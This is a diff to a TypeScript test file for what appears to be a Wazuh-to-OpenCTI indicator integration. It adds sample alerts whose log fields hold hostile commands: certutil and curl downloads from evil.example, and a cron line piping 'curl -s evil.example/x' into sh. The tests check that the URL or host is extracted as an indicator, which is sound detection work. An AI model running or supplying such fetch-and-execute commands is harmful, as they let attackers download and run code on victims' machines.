@@ -22,6 +22,48 @@ function alert(
 const CASES: Readonly<
   Record<string, readonly [string | object, TextKind, string]>
 > = {
+  windows_process: [
+    alert(["windows", "windows_security"], {
+      decoder: { name: "windows_eventchannel" },
+      data: {
+        win: {
+          system: {
+            eventID: "4688",
+            providerName: "Microsoft-Windows-Security",
+          },
+          eventdata: { commandLine: "certutil -f http://evil.example/a.exe" },
+        },
+      },
+    }),
+    "url",
+    "http://evil.example/a.exe",
+  ],
+  windows_service: [
+    alert(["windows", "windows_system"], {
+      decoder: { name: "windows_eventchannel" },
+      data: {
+        win: {
+          system: { eventID: "7045", providerName: "Service Control Manager" },
+          eventdata: { imagePath: "cmd /c curl http://evil.example/a.exe" },
+        },
+      },
+    }),
+    "url",
+    "http://evil.example/a.exe",
+  ],
+  commands: [
+    alert(["syslog", "cron"], {
+      full_log: "Nov 25 10:00:01 web01 CRON[4711]: (root) CMD (curl -s " +
+        "evil.example/x | sh)",
+    }),
+    "host",
+    "evil.example",
+  ],
+  maltrail: [
+    alert(["maltrail"], { data: { trail: "evil.example" } }),
+    "host",
+    "evil.example",
+  ],
   syscheck: [
     "syscheck_added_linux",
     "sha1",
@@ -279,7 +321,7 @@ Deno.test("custom-opencti tells a match for an alert of every source", async (t)
     await t.step(source, async () => {
       const ioc = toIoc({ kind, text, field: "" });
       assert(!("reason" in ioc), text);
-      const [pattern = ""] = patternsOf(ioc);
+      const [pattern = ""] = patternsOf(ioc, "none");
       await using opencti = startOpencti({
         indicators: [{ id: "i1", name: "Known", pattern }],
         observables: [],
@@ -305,10 +347,12 @@ Deno.test("custom-opencti tells a match for an alert of every source", async (t)
         message.slice(message.indexOf("{")),
       );
       assertEquals(event.event_type, "indicator_pattern_match");
-      const { field, ...told } = event.ioc;
-      assertEquals(told, { kind: ioc.kind, value: ioc.value });
+      const { field, source: by, ...value } = event.ioc;
+      assertEquals(value, { kind: ioc.kind, value: ioc.value });
+      assert(readers.split(", ").includes(by), by);
       assert(field.length > 0, "it says where the IoC stood");
-      assertEquals(opencti.requests.length, 1);
+      // One finds the match, one asks for what its event says.
+      assertEquals(opencti.requests.length, 2);
     });
   }
 });
